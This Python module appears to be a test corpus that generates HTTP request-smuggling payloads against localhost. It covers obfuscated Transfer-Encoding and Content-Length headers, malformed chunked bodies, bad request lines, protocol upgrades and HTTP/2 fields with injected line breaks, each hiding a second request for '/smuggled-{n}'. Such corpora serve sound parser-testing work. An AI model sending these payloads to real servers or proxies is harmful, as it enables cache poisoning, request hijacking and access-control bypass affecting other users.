"""Requests that two servers in a row may read in two ways: how a body is framed, where a line ends, what a field is.

Each is a few bytes that a client sends; `{n}` in them is replaced by the attack's number. Where one hides another request, that
request asks for `/smuggled-{n}`.
"""

from __future__ import annotations

from collections.abc import Iterator

_HIDDEN = b"GET /smuggled-{n} HTTP/1.1\r\nHost: localhost\r\nX-Attack: {n}\r\n\r\n"
_CHUNKED = b"0\r\n\r\n" + _HIDDEN

# Forms of the field that some servers take for a Transfer-Encoding of chunked, and others do not.
_CODINGS = [
    b"Transfer-Encoding: chunked",
    b"transfer-encoding: CHUNKED",
    b"Transfer-Encoding : chunked",
    b"Transfer-Encoding\t: chunked",
    b"Transfer-Encoding:chunked",
    b"Transfer-Encoding:\tchunked",
    b"Transfer-Encoding: \x0bchunked",
    b"Transfer-Encoding: \x0cchunked",
    b"Transfer-Encoding: \x00chunked",
    b"Transfer-Encoding: chunked\x00",
    b"Transfer-Encoding: chunked ",
    b"Transfer-Encoding: chunked,",
    b"Transfer-Encoding: ,chunked",
    b"Transfer-Encoding: chunked;q=1",
    b'Transfer-Encoding: "chunked"',
    b"Transfer-Encoding: 'chunked'",
    b"Transfer-Encoding: xchunked",
    b"Transfer-Encoding: chunkedx",
    b"Transfer-Encoding: chunk",
    b"Transfer-Encoding: identity",
    b"Transfer-Encoding: identity, chunked",
    b"Transfer-Encoding: chunked, identity",
    b"Transfer-Encoding: chunked, chunked",
    b"Transfer-Encoding: gzip, chunked",
    b"Transfer-Encoding: identity\r\nTransfer-Encoding: chunked",
    b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity",
    b"Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked",
    b"Transfer-Encoding:\r\n chunked",
    b"Transfer-Encoding:\r\n\tchunked",
    b"Transfer-Encoding\r\n: chunked",
    b"X: y\r\n Transfer-Encoding: chunked",
    b" Transfer-Encoding: chunked",
    b"X: y\nTransfer-Encoding: chunked",
    b"X: y\rTransfer-Encoding: chunked",
    b"X: y\r\rTransfer-Encoding: chunked",
    b"X: \x00\r\nTransfer-Encoding: chunked",
    b"\x00Transfer-Encoding: chunked",
    b"\xffTransfer-Encoding: chunked",
    b"Transfer-Encoding\xa0: chunked",
    b"Transfer_Encoding: chunked",
    b"Transfer.Encoding: chunked",
    b"Transfer Encoding: chunked",
    b"Content-Encoding: chunked",
    b"TE: chunked",
    b"Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked",
    b"Connection: Content-Length\r\nTransfer-Encoding: chunked",
    b"Transfer-Encoding: \xef\xbb\xbfchunked",
    b"Tran\x73fer-Encoding: \xe3\x80\x80chunked",
]

# Forms of the length of the body `hello`, which some take for 5.
_LENGTHS = [
    b"Content-Length: 5",
    b"Content-Length: +5",
    b"Content-Length: 05",
    b"Content-Length: 0x5",
    b"Content-Length: 5 ",
    b"Content-Length: \t5",
    b"Content-Length: \x0b5",
    b"Content-Length: 5,5",
    b"Content-Length: 5, 5",
    b"Content-Length: 5, 6",
    b"Content-Length: 5,",
    b"Content-Length: ,5",
    b"Content-Length: 5;",
    b"Content-Length: -5",
    b"Content-Length: 5.0",
    b"Content-Length: 5e0",
    b"Content-Length: 5_0",
    b"Content-Length: 0_5",
    b"Content-Length: \xd9\xa5",
    b"Content-Length:",
    b"Content-Length: 18446744073709551621",
    b"Content-Length: 4294967301",
    b"Content-Length : 5",
    b"Content_Length: 5",
    b"Content-Length: 5\r\nContent-Length: 5",
    b"Content-Length: 5\r\nContent-Length: 0",
    b"Content-Length: 0\r\nContent-Length: 5",
    b"Content-Length:\r\n 5",
    b"X: y\r\n Content-Length: 5",
    b"X: y\nContent-Length: 5",
    b"X: y\rContent-Length: 5",
    b"Connection: Content-Length\r\nContent-Length: 5",
    b"Content-Length: 5\x00",
    b"\x00Content-Length: 5",
]

# Chunked bodies that some read as `hello`, each with a request behind what may be the end.
_CHUNKS = [
    b"5\r\nhello\r\n0\r\n\r\n",
    b"05\r\nhello\r\n0\r\n\r\n",
    b"00000000000000000005\r\nhello\r\n0\r\n\r\n",
    b"5;name=value\r\nhello\r\n0\r\n\r\n",
    b'5;a="\r\n"\r\nhello\r\n0\r\n\r\n',
    b"5;\nhello\r\n0\r\n\r\n",
    b"5;a\nhello\r\n0\r\n\r\n",
    b"5 \r\nhello\r\n0\r\n\r\n",
    b" 5\r\nhello\r\n0\r\n\r\n",
    b"\t5\r\nhello\r\n0\r\n\r\n",
    b"+5\r\nhello\r\n0\r\n\r\n",
    b"-5\r\nhello\r\n0\r\n\r\n",
    b"0x5\r\nhello\r\n0\r\n\r\n",
    b"5h\r\nhello\r\n0\r\n\r\n",
    b"5\nhello\r\n0\r\n\r\n",
    b"5\r\nhello\n0\r\n\r\n",
    b"5\r\nhello0\r\n\r\n",
    b"5\r\nhelloXX0\r\n\r\n",
    b"5\rhello\r\n0\r\n\r\n",
    b"5\r\nhello\r\n0\n\n",
    b"5\r\nhello\r\n0\r\n\n",
    b"5\r\nhello\r\n0\n\r\n",
    b"5\r\nhello\r\n\r\n0\r\n\r\n",
    b"5\r\nhello\r\n00\r\n\r\n",
    b"5\r\nhello\r\n0;end\r\n\r\n",
    b"5\r\nhello\r\n0\r\nX: y\r\n\r\n",
    b"5\r\nhello\r\n0\r\nContent-Length: 60\r\n\r\n",
    b"5\r\nhello\r\n0\r\nTransfer-Encoding: chunked\r\n\r\n",
    b"5\r\nhello\r\n0\r\nHost: other\r\n\r\n",
    b"5\r\nhello\r\n0\r\n X: y\r\n\r\n",
    b"5\r\nhello\r\n0\r\nno colon\r\n\r\n",
    b"5\r\nhello\r\n0\r\nX: y\n\r\n",
    b"100000000000000005\r\nhello\r\n0\r\n\r\n",
    b"ffffffffffffffff5\r\nhello\r\n0\r\n\r\n",
    b"5_0\r\nhello\r\n0\r\n\r\n",
    b"\xd9\xa5\r\nhello\r\n0\r\n\r\n",
    b"\r\n5\r\nhello\r\n0\r\n\r\n",
    b"5\x00\r\nhello\r\n0\r\n\r\n",
]

# Request lines and first fields, up to the end of the head.
_HEADS = [
    b"GET /plain-{n} HTTP/1.1\nHost: localhost\nX-Attack: {n}\n\n",
    b"GET /plain-{n} HTTP/1.1\rHost: localhost\rX-Attack: {n}\r\r",
    b"GET  /plain-{n} HTTP/1.1\r\nHost: localhost\r\nX-Attack: {n}\r\n\r\n",
    b"GET\t/plain-{n}\tHTTP/1.1\r\nHost: localhost\r\nX-Attack: {n}\r\n\r\n",
    b"GET /plain-{n} HTTP/1.1 \r\nHost: localhost\r\nX-Attack: {n}\r\n\r\n",
    b"GET /plain-{n}\r\n\r\n",
    b"GET /plain-{n} HTTP/1.2\r\nHost: localhost\r\nX-Attack: {n}\r\n\r\n",
    b"GET /plain-{n} HTTP/11.1\r\nHost: localhost\r\nX-Attack: {n}\r\n\r\n",
    b"GET /plain-{n} http/1.1\r\nHost: localhost\r\nX-Attack: {n}\r\n\r\n",
    b"GET /plain-{n} HTTP/2.0\r\nHost: localhost\r\nX-Attack: {n}\r\n\r\n",
    b"get /plain-{n} HTTP/1.1\r\nHost: localhost\r\nX-Attack: {n}\r\n\r\n",
    b"GE\x00T /plain-{n} HTTP/1.1\r\nHost: localhost\r\nX-Attack: {n}\r\n\r\n",
    b"GET /a b HTTP/1.1\r\nHost: localhost\r\nX-Attack: {n}\r\n\r\n",
    b"GET /a\x00b HTTP/1.1\r\nHost: localhost\r\nX-Attack: {n}\r\n\r\n",
    b"GET /\xe9-{n} HTTP/1.1\r\nHost: localhost\r\nX-Attack: {n}\r\n\r\n",
    b"GET /a%0d%0aX-Attack:%20no HTTP/1.1\r\nHost: localhost\r\nX-Attack: {n}\r\n\r\n",
    b"GET /a%00b HTTP/1.1\r\nHost: localhost\r\nX-Attack: {n}\r\n\r\n",
    b"GET /a#b HTTP/1.1\r\nHost: localhost\r\nX-Attack: {n}\r\n\r\n",
    b"GET http://other/plain-{n} HTTP/1.1\r\nHost: localhost\r\nX-Attack: {n}\r\n\r\n",
    b"GET http://localhost@other/plain-{n} HTTP/1.1\r\nHost: localhost\r\nX-Attack: {n}\r\n\r\n",
    b"GET //other/plain-{n} HTTP/1.1\r\nHost: localhost\r\nX-Attack: {n}\r\n\r\n",
    b"GET plain-{n} HTTP/1.1\r\nHost: localhost\r\nX-Attack: {n}\r\n\r\n",
    b"OPTIONS * HTTP/1.1\r\nHost: localhost\r\nX-Attack: {n}\r\n\r\n",
    b"GET * HTTP/1.1\r\nHost: localhost\r\nX-Attack: {n}\r\n\r\n",
    b"CONNECT localhost:80 HTTP/1.1\r\nHost: localhost\r\nX-Attack: {n}\r\n\r\n",
    b"TRACE /plain-{n} HTTP/1.1\r\nHost: localhost\r\nX-Attack: {n}\r\n\r\n",
    b"GET /plain-{n} HTTP/1.1\r\nHost: localhost\r\nHost: other\r\nX-Attack: {n}\r\n\r\n",
    b"GET /plain-{n} HTTP/1.1\r\nHost: localhost, other\r\nX-Attack: {n}\r\n\r\n",
    b"GET /plain-{n} HTTP/1.1\r\nHost: local host\r\nX-Attack: {n}\r\n\r\n",
    b"GET /plain-{n} HTTP/1.1\r\nHost: localhost/..\r\nX-Attack: {n}\r\n\r\n",
    b"GET /plain-{n} HTTP/1.1\r\nHost:\r\nX-Attack: {n}\r\n\r\n",
    b"GET /plain-{n} HTTP/1.1\r\nX-Attack: {n}\r\n\r\n",
    b"GET /plain-{n} HTTP/1.1\r\nHost : localhost\r\nX-Attack: {n}\r\n\r\n",
    b"GET /plain-{n} HTTP/1.1\r\n Host: localhost\r\nX-Attack: {n}\r\n\r\n",
    b"GET /plain-{n} HTTP/1.1\r\nHost: localhost\r\nX-Attack: {n}\r\nno colon\r\n\r\n",
    b"GET /plain-{n} HTTP/1.1\r\nHost: localhost\r\nX-Attack: {n}\r\n: no name\r\n\r\n",
    b"GET /plain-{n} HTTP/1.1\r\nHost: localhost\r\nX-Attack: {n}\r\nX: a\r\n b\r\n\r\n",
    b"GET /plain-{n} HTTP/1.1\r\nHost: localhost\r\nX-Attack: {n}\r\nX: a\rb\r\n\r\n",
    b"GET /plain-{n} HTTP/1.1\r\nHost: localhost\r\nX-Attack: {n}\r\nX: a\x00b\r\n\r\n",
    b"GET /plain-{n} HTTP/1.1\r\nHost: localhost\r\nX-Attack: {n}\r\nX\x7f: a\r\n\r\n",
    b"\r\n\r\nGET /plain-{n} HTTP/1.1\r\nHost: localhost\r\nX-Attack: {n}\r\n\r\n",
    b"\n\nGET /plain-{n} HTTP/1.1\r\nHost: localhost\r\nX-Attack: {n}\r\n\r\n",
    b"\x16\x03\x01GET /plain-{n} HTTP/1.1\r\nHost: localhost\r\nX-Attack: {n}\r\n\r\n",
    b"GET /plain-{n} HTTP/1.1\r\nHost: localhost\r\nX-Attack: {n}\r\nConnection: close, X-Request-ID\r\n\r\n",
    b"GET /plain-{n} HTTP/1.1\r\nHost: localhost\r\nX-Attack: {n}\r\nConnection: Host, X-Forwarded-For\r\n\r\n",
    b"GET /plain-{n} HTTP/1.1\r\nHost: localhost\r\nX-Attack: {n}\r\nX-Request-ID: forged\r\n\r\n",
    b"GET /plain-{n} HTTP/1.1\r\nHost: localhost\r\nX-Attack: {n}\r\nX_Request_ID: forged\r\n\r\n",
]

# Whole requests with a body that not everybody sees, and ways out of HTTP/1.1.
_WHOLE = [
    b"GET /whole-{n} HTTP/1.1\r\nHost: localhost\r\nX-Attack: {n}\r\nContent-Length: {l}\r\n\r\n" + _HIDDEN,
    b"HEAD /whole-{n} HTTP/1.1\r\nHost: localhost\r\nX-Attack: {n}\r\nContent-Length: {l}\r\n\r\n" + _HIDDEN,
    b"OPTIONS /whole-{n} HTTP/1.1\r\nHost: localhost\r\nX-Attack: {n}\r\nContent-Length: {l}\r\n\r\n"
    + _HIDDEN,
    b"DELETE /whole-{n} HTTP/1.1\r\nHost: localhost\r\nX-Attack: {n}\r\nContent-Length: {l}\r\n\r\n"
    + _HIDDEN,
    b"GET /whole-{n} HTTP/1.1\r\nHost: localhost\r\nX-Attack: {n}\r\nTransfer-Encoding: chunked\r\n\r\n"
    + _CHUNKED,
    b"HEAD /whole-{n} HTTP/1.1\r\nHost: localhost\r\nX-Attack: {n}\r\nTransfer-Encoding: chunked\r\n\r\n"
    + _CHUNKED,
    b"POST /whole-{n} HTTP/1.0\r\nHost: localhost\r\nX-Attack: {n}\r\nTransfer-Encoding: chunked\r\n\r\n"
    + _CHUNKED,
    b"POST /whole-{n} HTTP/1.0\r\nHost: localhost\r\nX-Attack: {n}\r\nConnection: keep-alive\r\n"
    b"Transfer-Encoding: chunked\r\nContent-Length: 5\r\n\r\n" + _CHUNKED,
    b"POST /whole-{n} HTTP/1.1\r\nHost: localhost\r\nX-Attack: {n}\r\nExpect: 100-continue\r\nContent-Length: {l}\r\n\r\n"
    + _HIDDEN,
    b"POST /whole-{n} HTTP/1.1\r\nHost: localhost\r\nX-Attack: {n}\r\nExpect: 100-continue\r\n"
    b"Transfer-Encoding: chunked\r\n\r\n" + _CHUNKED,
    b"POST /whole-{n} HTTP/1.1\r\nHost: localhost\r\nX-Attack: {n}\r\nExpect: y 100-continue\r\nContent-Length: {l}\r\n\r\n"
    + _HIDDEN,
    b"GET /whole-{n} HTTP/1.1\r\nHost: localhost\r\nX-Attack: {n}\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\n"
    b"HTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n" + _HIDDEN,
    b"GET /whole-{n} HTTP/1.1\r\nHost: localhost\r\nX-Attack: {n}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n"
    b"Sec-WebSocket-Version: 777\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n" + _HIDDEN,
    b"GET /whole-{n} HTTP/1.1\r\nHost: localhost\r\nX-Attack: {n}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n"
    b"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n" + _HIDDEN,
    b"GET /whole-{n} HTTP/1.1\r\nHost: localhost\r\nX-Attack: {n}\r\nConnection: Upgrade\r\nUpgrade: TLS/1.0\r\n"
    b"Content-Length: {l}\r\n\r\n" + _HIDDEN,
    b"POST /whole-{n} HTTP/1.1\r\nHost: localhost\r\nX-Attack: {n}\r\nX-HTTP-Method-Override: GET\r\nContent-Length: {l}\r\n\r\n"
    + _HIDDEN,
    b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _HIDDEN,
]

_POST = b"POST /body-{n} HTTP/1.1\r\nHost: localhost\r\nX-Attack: {n}\r\n"


def _templates() -> Iterator[bytes]:
    for coding in _CODINGS:
        # Who does not see the coding reads the length, or no body at all; the length is behind it and before it.
        yield _POST + b"Content-Length: {l}\r\n" + coding + b"\r\n\r\n" + _CHUNKED
        yield _POST + coding + b"\r\nContent-Length: {l}\r\n\r\n" + _CHUNKED
        yield _POST + b"Content-Length: 3\r\n" + coding + b"\r\n\r\n5\r\nhello\r\n" + _CHUNKED
        yield _POST + coding + b"\r\n\r\n5\r\nhello\r\n" + _CHUNKED
    for length in _LENGTHS:
        yield _POST + length + b"\r\n\r\nhello" + _HIDDEN
        yield _POST.replace(b"POST", b"GET") + length + b"\r\n\r\nhello" + _HIDDEN
    for chunks in _CHUNKS:
        yield _POST + b"Transfer-Encoding: chunked\r\n\r\n" + chunks + _HIDDEN
    yield from _HEADS
    yield from _WHOLE


def attacks() -> list[bytes]:
    """All of them: the position in the list is the number."""
    made = []
    for number, template in enumerate(_templates()):
        head, _, body = template.partition(b"\r\n\r\n")
        body = body.replace(b"{n}", str(number).encode())
        made.append(
            head.replace(b"{n}", str(number).encode()).replace(b"{l}", str(len(body)).encode())
            + b"\r\n\r\n"
            + body
        )
    return made


# A head of HTTP/2, and what comes behind it, that would be another request in HTTP/1.1: fields as they go over the wire.
Fields = list[tuple[bytes, bytes]]

_LINE_ENDS = (b"\r\n", b"\n", b"\r", b"\x00", b"\r\n\r\n")


def _head(number: int, method: bytes = b"POST", path: bytes = b"", authority: bytes = b"localhost") -> Fields:
    path = path or b"/h2-%d" % number
    pseudo = [(b":method", method), (b":scheme", b"http"), (b":authority", authority), (b":path", path)]
    return [*pseudo, (b"x-attack", b"%d" % number)]


def _bad_fields() -> Iterator[tuple[bytes, bytes]]:
    yield from [
        (b"transfer-encoding", b"chunked"),
        (b"transfer-encoding", b"identity"),
        (b"Transfer-Encoding", b"chunked"),
        (b"transfer-encoding ", b"chunked"),
        (b" transfer-encoding", b"chunked"),
        (b"transfer_encoding", b"chunked"),
        (b"connection", b"keep-alive"),
        (b"connection", b"transfer-encoding"),
        (b"keep-alive", b"1"),
        (b"proxy-connection", b"keep-alive"),
        (b"upgrade", b"h2c"),
        (b"te", b"trailers, chunked"),
        (b"content-length", b"0"),
        (b"content-length", b"4"),
        (b"content-length", b"99"),
        (b"content-length", b"+5"),
        (b"content-length", b"5, 5"),
        (b"content-length", b"0x5"),
        (b"host", b"other"),
        (b"host", b"localhost\r\nX-Attack: no"),
        (b":path", b"/other"),
        (b":authority", b"other"),
        (b":unknown", b"x"),
        (b"", b"empty"),
        (b"x:y", b"z"),
        (b"x y", b"z"),
        (b"X-Upper", b"z"),
        (b"x", b" z"),
        (b"x\xff", b"z"),
        (b"expect", b"100-continue"),
    ]
    for end in _LINE_ENDS:
        yield b"x", b"y" + end + b"transfer-encoding: chunked"
        yield b"x", b"y" + end + b"content-length: 0"
        yield b"x" + end + b"transfer-encoding", b"chunked"
        yield b"x: y" + end + b"content-length", b"0"


def h2_attacks() -> list[tuple[Fields, bytes]]:
    """Fields and body of each: the position in the list is the number."""
    made: list[tuple[Fields, bytes]] = []

    def add(**changed: bytes) -> Fields:
        fields = _head(len(made), **changed)
        made.append((fields, b"hello"))
        return fields

    for field in _bad_fields():
        add().append(field)
        # Behind a field that says how long the body is.
        add().extend([(b"content-length", b"5"), field])
    for end in _LINE_ENDS:
        hidden = (
            end
            + b"host: localhost"
            + 2 * end
            + b"GET /smuggled HTTP/1.1"
            + end
            + b"host: localhost"
            + 2 * end
        )
        add(method=b"GET / HTTP/1.1" + hidden)
        add(path=b"/x HTTP/1.1" + hidden)
        add(authority=b"localhost" + hidden)
    for path in (
        b"",
        b"*",
        b"x",
        b"/a b",
        b"/a#b",
        b"http://other/",
        b"//other/",
        b"/\xe9",
        b"/%0d%0aX-Attack:%20no",
    ):
        add(path=path)
    for method in (b"", b"GE T", b"get", b"CONNECT", b"TRACE", b"G\xc9T", b"GET\t"):
        add(method=method)
    for authority in (
        b"",
        b"a@localhost",
        b"local host",
        b"localhost/..",
        b"localhost:x",
        b"localhost, other",
    ):
        add(authority=authority)
    return made
